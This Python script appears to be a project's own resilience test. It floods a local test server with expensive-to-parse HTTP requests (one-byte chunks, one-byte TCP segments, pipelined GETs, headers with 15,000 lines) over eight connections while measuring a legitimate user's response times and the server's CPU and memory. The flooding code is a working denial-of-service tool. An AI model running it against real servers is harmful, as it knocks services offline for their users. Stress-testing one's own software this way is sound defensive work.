"""Send requests that are expensive to parse: eight connections without a cookie send one kind after another as fast as
they can, from another address, while a guest plays. The kinds are chunks of one byte, TCP segments of one byte,
pipelined requests, and headers of many lines.

    python -m tools.attacks.requests --seconds 40
"""

from __future__ import annotations

import asyncio
import select
import socket
import time
from contextlib import suppress
from functools import partial

from tools.attacks.victim import Guest, Victim, answer_times, connect_from_elsewhere, run, summary

CONNECTIONS = 8
AT_ONCE = 20_000  # chunks or requests in one write
LINES = 15_000  # of a header: the server may receive them in one read
HEAD = b"POST /api/replay HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
KINDS = {
    "chunks": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\na\r\n" * AT_ONCE, False),
    "segments": (HEAD + b"Content-Length: 250000\r\n\r\n", b" ", True),
    "pipelined": (b"", b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * AT_ONCE, False),
    "header lines": (b"", b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"a:\r\n" * LINES + b"\r\n", False),
}


def pour(served: Victim, kind: str, until: float) -> tuple[int, int]:
    """Send one kind of request, on a new connection whenever the server closes the last one. Return the number of
    connections and of bytes."""
    head, part, is_alone = KINDS[kind]
    opened = sent = 0
    while time.monotonic() < until:
        with suppress(OSError), connect_from_elsewhere(served) as line:
            opened += 1
            line.settimeout(5)
            line.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, is_alone)
            line.sendall(head)
            while time.monotonic() < until:
                line.sendall(part)
                sent += len(part)
                if not is_alone and select.select([line], [], [], 0)[0] and not line.recv(1 << 20):
                    break
    return opened, sent


async def flood(served: Victim, guest: Guest, table: str, kind: str, seconds: float) -> None:
    loop, until, used = asyncio.get_running_loop(), time.monotonic() + seconds, served.processor_seconds
    work = [loop.run_in_executor(None, partial(pour, served, kind, until)) for _connection in range(CONNECTIONS)]
    times = await answer_times(served, guest, table, seconds)
    poured = await asyncio.gather(*work)
    opened, sent = sum(count for count, _bytes in poured), sum(count for _count, count in poured)
    used = served.processor_seconds - used
    cost = f"{used:.1f} s of the server's processor time, {1000 * used / max(1, opened):.1f} ms for each connection"
    print(f"{kind}: {summary(times)}; {opened} connections, {sent:,} bytes; {cost}; {served.mebibytes:.0f} MiB")


async def attack(served: Victim, seconds: float) -> None:
    """Run the kinds of requests in sequence, each for the same time."""
    ana = Guest(served.address)
    table = ana.open_table()
    quiet = await answer_times(served, ana, table, 2)
    print(f"quiet: {summary(quiet)}; {served.mebibytes:.0f} MiB")
    for kind in KINDS:
        await flood(served, ana, table, kind, seconds / len(KINDS))


if __name__ == "__main__":
    run(attack, __doc__, seconds=40)
